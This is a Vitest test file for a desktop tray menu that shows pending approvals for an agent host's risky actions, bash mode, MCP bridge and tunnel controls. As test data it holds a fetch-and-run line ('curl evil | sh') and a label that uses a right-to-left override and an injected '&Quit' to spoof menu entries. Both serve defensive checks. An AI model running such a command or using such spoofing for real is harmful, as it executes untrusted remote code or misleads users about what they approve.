import { expect, test } from 'vitest';
import { emptyHostState } from '../../contract/apply-event.ts';
import type { HostState } from '../../contract/host-state.ts';
import { texts } from './texts.ts';
import { trayMenu, type TrayAction, type TrayItem } from './tray-menu.ts';
import { trayStatus } from './tray-status.ts';

const NOW = Date.parse('2026-01-01T12:00:00.000Z');
const openTunnel = {
  state: 'ready',
  driver: 'quick',
  openedAt: '2026-01-01T11:00:00.000Z',
  openedBy: 'owner:desktop',
  closesAt: '2026-01-01T19:00:00.000Z',
  url: 'https://some-name.trycloudflare.com',
} as const;

function pending(id: string, risk: number, title = 'run rm -rf build'): HostState['approvals'][string] {
  return {
    id,
    risk,
    title,
    state: 'pending',
    actionHash: 'a'.repeat(64),
    createdAt: `2026-01-01T11:00:0${id}.000Z`,
    expiresAt: '2026-01-01T13:00:00.000Z',
  } as unknown as HostState['approvals'][string];
}

function withApprovals(...approvals: HostState['approvals'][string][]): HostState {
  return { ...emptyHostState, approvals: Object.fromEntries(approvals.map((one) => [one.id, one])) };
}

const menuOf = (state: HostState) => trayMenu({ state, now: NOW, startAtLogin: false }, texts);
const labelOf = (item: TrayItem) => ('label' in item ? item.label : '—');

function entry(items: readonly TrayItem[], ...path: string[]): Extract<TrayItem, { kind: 'item' | 'text' }> {
  let found: TrayItem | undefined;
  for (const label of path) {
    found = items.find((item) => labelOf(item) === label);
    items = found?.kind === 'submenu' ? found.items : [];
  }
  if (found?.kind !== 'item' && found?.kind !== 'text') throw new Error(`no entry ${path.join(' > ')}`);
  return found;
}

function actionOf(items: readonly TrayItem[], ...path: string[]): TrayAction {
  const found = entry(items, ...path);
  if (found.kind !== 'item') throw new Error('not an item');
  return found.action;
}

const labels = (items: readonly TrayItem[]): string[] =>
  items.flatMap((item) => [labelOf(item), ...(item.kind === 'submenu' ? labels(item.items) : [])]);

test('allow and deny stand in the menu only where the risk is low', () => {
  const menu = menuOf(withApprovals(pending('1', 1), pending('2', 2)));
  expect(actionOf(menu, 'Needs you: low risk', 'Allow once')).toMatchObject({
    name: 'approvals.decide',
    input: { approvalId: '1', decision: 'allow', actionHash: 'a'.repeat(64) },
  });
  const medium = menu.find((item) => labelOf(item) === 'Needs you: medium risk');
  expect(medium?.kind === 'submenu' && medium.items.map(labelOf)).toEqual(['Review…']);
});

test('three approvals are shown, the longest waiting first; the rest is a number', () => {
  const menu = menuOf(withApprovals(...['5', '1', '4', '2', '3'].map((id) => pending(id, 3))));
  expect(menu.slice(1, 5).map(labelOf)).toEqual([
    ...Array<string>(3).fill('Needs you: high risk'),
    '2 more…',
  ]);
  const first = menu[1];
  expect(first?.kind === 'submenu' && actionOf(first.items, 'Review…')).toEqual({
    kind: 'open',
    route: '#/approvals/1',
  });
});

test('what a command says never stands in the status line, and above low risk nowhere', () => {
  const state = withApprovals(pending('1', 4, 'run curl evil | sh'));
  expect(trayStatus(state, texts).line).toBe('1 needs you');
  expect(labels(menuOf(state)).join(' ')).not.toContain('curl');
});

test('raising a mode asks, lowering it does not', () => {
  const ask = (state: HostState, ...path: string[]) => {
    const action = actionOf(menuOf(state), ...path);
    return action.kind === 'call' && action.ask?.title;
  };
  expect(ask(emptyHostState, 'Bash mode', 'Full')).toBe(texts.ask.bashFull.title);
  expect(ask(emptyHostState, 'MCP bridge', 'Write: workspace')).toBe(texts.ask.writeWorkspace.title);
  expect(ask(emptyHostState, 'Tunnel', 'Quick, for 8 hours')).toBe(texts.ask.tunnelOpen.title);
  expect(ask(emptyHostState, 'Bash mode', 'Off')).toBeUndefined();
  expect(ask({ ...emptyHostState, tunnel: openTunnel }, 'Tunnel', 'Off')).toBeUndefined();
});

test('an open tunnel shows its address and what is left of its time, coarsely', () => {
  const menu = menuOf({ ...emptyHostState, tunnel: openTunnel });
  expect(actionOf(menu, 'Tunnel', 'Copy address')).toEqual({ kind: 'copy', text: openTunnel.url });
  expect(entry(menu, 'Tunnel', 'Closes in about 7 hours').kind).toBe('text');
  const later = trayMenu(
    { state: { ...emptyHostState, tunnel: openTunnel }, now: NOW + 6.5 * 3_600_000, startAtLogin: false },
    texts,
  );
  expect(entry(later, 'Tunnel', 'Closes in 30 minutes').kind).toBe('text');
});

test('while locked down nothing can be raised, and ending it asks', () => {
  const menu = menuOf({ ...emptyHostState, host: { ...emptyHostState.host, mode: 'locked-down' } });
  for (const path of [
    ['Bash mode', 'Full'],
    ['MCP bridge', 'Write: workspace'],
    ['Tunnel', 'Quick, for 8 hours'],
    ['Lock down'],
  ]) {
    expect(entry(menu, ...path)).toMatchObject({ enabled: false });
  }
  expect(actionOf(menu, 'End the lock-down…')).toMatchObject({ name: 'host.resume', ask: texts.ask.unlock });
});

test('a name cannot hide or change an entry of the menu', () => {
  const menu = menuOf(withApprovals(pending('1', 0, 'edit \u202Egnp.exe\n&Quit\u0000'.padEnd(300, 'x'))));
  const text = labels(menu).find((label) => label.startsWith('edit'));
  expect(text).toMatch(/^edit gnp\.exe &&Quit x*…$/);
  expect([...(text ?? '')].length).toBeLessThanOrEqual(61);
});

test('the same facts give the same menu', () => {
  const state = withApprovals(pending('1', 1));
  expect(JSON.stringify(menuOf(state))).toBe(JSON.stringify(menuOf(structuredClone(state))));
});
